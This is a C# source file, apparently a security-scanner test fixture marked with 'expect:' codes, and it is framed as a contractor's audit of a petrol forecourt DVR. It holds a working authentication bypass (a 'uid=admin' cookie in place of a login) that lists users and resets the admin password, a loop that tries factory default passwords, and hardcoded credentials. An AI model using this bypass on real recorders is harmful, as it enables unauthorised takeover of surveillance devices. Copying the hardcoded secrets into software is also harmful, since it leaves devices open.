// Real source: ST0PL/DVRFaultNET
//   DVRFaultNET/ClientUrl.cs (DVRReq: WebRequest.Create($"{Address}/device.rsp?opt=user&cmd=list") with the
//   "uid=admin" cookie that the affected DVR firmware accepts in place of a login)
// Kept: the request, its cookie and the JSON read-back.
// Added (a petrol forecourt's own DVR, audited by the site's maintenance contractor): after listing the users the
// tool sets a new admin password through the same CGI, and first checks whether the recorder still answers to the
// logins it shipped with.
using System;
using System.IO;
using System.Net;

namespace DVRFault
{
    class ClientUrl
    {
        public static string DVRReq(string Address)
        {
            HttpWebRequest request = (HttpWebRequest)WebRequest.Create($@"{Address}/device.rsp?opt=user&cmd=list");
            request.Headers.Add(HttpRequestHeader.Cookie, "uid=admin"); // expect: none
            using (Stream stream = request.GetResponse().GetResponseStream())
            using (StreamReader sr = new StreamReader(stream))
            {
                return sr.ReadToEnd();
            }
        }

        private const string ForecourtAdminPassword = "gglXqjREzzfzaG"; // expect: IOT1001

        public static void RotateAdminPassword(string Address)
        {
            var request = (HttpWebRequest)WebRequest.Create(
                $"{Address}/device.rsp?opt=user&cmd=set&name=admin&pwd={ForecourtAdminPassword}");
            request.Headers.Add(HttpRequestHeader.Cookie, "uid=admin");
            request.GetResponse().Dispose();
        }

        // Logins the recorder family ships with; a hit means the rotation did not take.
        public static bool StillOpen(string Address)
        {
            foreach (var pwd in new[] { "12345", "888888", "IVD1duFsI7zq9T" }) // expect: IOT1002 IOT1002 IOT1001
            {
                var request = (HttpWebRequest)WebRequest.Create($"{Address}/device.rsp?opt=sys&cmd=info");
                request.Credentials = new NetworkCredential("admin", pwd);
                try { request.GetResponse().Dispose(); return true; } catch (WebException) { }
            }
            return false;
        }

        // What a user row looks like in the list the recorder returns (its password is masked).
        public const string UserRowExample = "{\"name\":\"admin\",\"pwd\":\"********\",\"right\":255}"; // expect: none
    }
}
